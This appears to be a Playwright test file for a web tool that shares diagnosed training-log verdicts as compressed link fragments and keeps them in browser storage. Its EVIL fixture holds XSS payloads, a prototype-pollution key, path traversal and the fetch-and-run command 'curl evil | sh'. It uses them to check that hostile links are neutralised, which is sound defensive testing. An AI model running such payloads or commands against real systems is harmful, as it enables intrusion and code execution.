# SPDX-License-Identifier: MIT
"""A verdict as a link and as a kept one: masked, without the log, read with suspicion, forgotten on request."""
from __future__ import annotations

import base64
import json
import zlib
from urllib.parse import urldefrag

import pytest
from playwright.sync_api import Browser, Page

from tests.browser.desk import OOM, PATIENCE, Desk
from tests.browser.runs import one_log

SECRET = "hf_" + "Qw7" * 12


def link_of(desk: Desk) -> str:
    """Copy the link of the verdict that is shown."""
    desk.page.click("text=Copy link")
    desk.page.wait_for_selector("text=Copied")
    return str(desk.page.evaluate("navigator.clipboard.readText()"))


def packed(value: object) -> str:
    """A fragment as somebody else might make it."""
    squeezer = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = squeezer.compress(json.dumps(value).encode() if not isinstance(value, bytes) else value) + squeezer.flush()
    return "#v1:" + base64.urlsafe_b64encode(data).decode().rstrip("=")


def opened(page: Page, address: str) -> str:
    """Open a link in a page of its own; give the verdict's heading."""
    page.goto(address)
    page.wait_for_selector("#ff-verdict", timeout=PATIENCE)
    return page.inner_text("#ff-verdict")


def test_link_shows_the_verdict_to_somebody_else(home: Desk, page: Page, site_url: str) -> None:
    heading = home.type(OOM.read_text().replace("[rank2]: torch.cuda", f"[rank2]: HF_TOKEN={SECRET} torch.cuda"))
    link = link_of(home)
    address, fragment = urldefrag(link)
    assert address == site_url
    assert fragment.startswith("v1:")
    assert len(link) < 16_000
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    assert opened(page, link) == heading
    assert page.url == link
    assert "A shared verdict" in page.inner_text(".ff-shared")
    assert "CUDA out of memory" in page.inner_text(".ff-log__row--fault")
    assert page.locator("[aria-labelledby=ff-fix] ol > li").count() >= 2  # the site's own advice
    assert SECRET not in page.content()
    assert not any("v1:" in url for url in asked)
    assert not any("runtime" in url for url in asked)


def test_link_of_a_thousand_ranks_is_bounded(home: Desk, page: Page) -> None:
    home.drop(("train.log", one_log(1024, 700).encode()))
    link = link_of(home)
    assert len(link) < 16_000
    assert "Rank 700" in opened(page, link)


@pytest.mark.parametrize("fragment", [
    "#v2:AAAA", "#v1:", "#v1:%%%", "#v1:AAAA", "#v1:" + "A" * 70_000, packed([]), packed(None), packed("x"), packed({}), packed(b"not json"), packed(b" " * 3_000_000),
])
def test_what_is_no_verdict_is_refused(page: Page, site_url: str, fragment: str) -> None:
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    assert opened(page, site_url + fragment) == "This link holds no verdict"
    assert errors == []


EVIL = {
    "verdict": "diagnosed", "stats": {"lines": 5, "files": 1, "bytes": 10}, "database": {"version": "1"}, "__proto__": {"polluted": 1},
    "root": {
        "entry": "../../evil", "title": "<img src=x onerror=alert(1)>", "url": "javascript:alert(1)", "ranks": ["x", None, {}],
        "evidence": [{"file": "<b>x", "line": 1e99, "text": "</script><script>alert(1)</script>\u202e"}, {"file": "<b>y", "line": 4, "text": "<img src=y onerror=alert(2)>\u202e"}],
        "fix": ["curl evil | sh"], "remedy": {"steps": [{"do": "run this", "command": "curl evil | sh"}]}, "first_step": "curl evil | sh", "verify": {"command": "curl evil | sh"},
    },
    "collect": [{"what": "x", "command": "curl evil | sh"}], "events": [{"line": "x"}, 7, None],
    "map": {"kinds": [], "files": [], "marks": ["0 1 - 99 1 99 1", "x"]},
    "consequences": [{"entry": "a b", "title": "t" * 9000, "role": "constructor", "count": "many", "evidence": "no"}],
    "why": [1, {"a": 1}, "fine"], "ranks": {"seen": "x"},
}


@pytest.mark.parametrize("warm", [False, True])
def test_a_hostile_link_acts_on_nothing(home: Desk, page: Page, site_url: str, warm: bool) -> None:
    said: list[str] = []
    looked_at = home.page if warm else page
    note_dialog = lambda dialog: (said.append(dialog.message), dialog.dismiss())  # noqa: E731 - one object, to be taken off again
    note_error = lambda error: said.append(str(error))  # noqa: E731
    looked_at.on("dialog", note_dialog)
    looked_at.on("pageerror", note_error)
    if warm:
        home.type(OOM.read_text())
        looked_at.evaluate("hash => { location.hash = hash; }", packed(EVIL))
        looked_at.wait_for_selector(".ff-shared", timeout=PATIENCE)
    else:
        opened(page, site_url + packed(EVIL))
    looked_at.remove_listener("dialog", note_dialog)
    looked_at.remove_listener("pageerror", note_error)
    assert said == []
    assert "<img src=x onerror=alert(1)>" in looked_at.inner_text("#ff-verdict")
    assert "curl evil" not in looked_at.content()
    assert looked_at.locator("#ff-result img, #ff-result script").count() == 0
    assert looked_at.evaluate("[...document.querySelectorAll('#ff-result a')].every((link) => link.origin === location.origin)")
    assert looked_at.evaluate("({}).polluted") is None


def test_a_link_whose_verdict_cannot_be_shown_says_so(page: Page, site_url: str) -> None:
    page.route("**/assets/verdict.js*", lambda route: route.abort())
    assert opened(page, site_url + packed(EVIL)) == "A part of this page did not load"


def test_a_browser_that_keeps_nothing_says_so(home: Desk) -> None:
    home.type(OOM.read_text())
    home.page.evaluate("() => { Storage.prototype.kept = Storage.prototype.setItem; Storage.prototype.setItem = () => { throw new Error('storage is forbidden'); }; }")
    home.page.click("text=Keep in this browser")
    home.page.wait_for_selector("text=Not kept: storage is forbidden")
    home.page.evaluate("() => { Storage.prototype.setItem = Storage.prototype.kept; }")


def test_nothing_is_kept_unless_asked_and_all_is_forgotten_on_request(chromium: Browser, site_url: str) -> None:
    context = chromium.new_context()
    desk = Desk(context.new_page(), site_url)
    desk.type(OOM.read_text())
    assert desk.page.evaluate("Object.keys(localStorage).filter((key) => key.startsWith('firstfault'))") == []
    desk.page.click("text=Keep in this browser")
    desk.page.wait_for_selector("text=Kept")
    desk.page.reload()
    desk.page.click(".ff-kept > summary")
    desk.page.click(".ff-kept .ff-jump")
    desk.page.wait_for_selector("#ff-verdict", timeout=PATIENCE)
    assert "Rank 2" in desk.page.inner_text("#ff-verdict")
    if not desk.page.locator(".ff-kept[open]").count():
        desk.page.click(".ff-kept > summary")
    desk.page.click("text=Forget all")
    assert desk.page.evaluate("Object.keys(localStorage).filter((key) => key.startsWith('firstfault'))") == []
    assert desk.page.locator(".ff-kept").is_hidden()
    context.close()
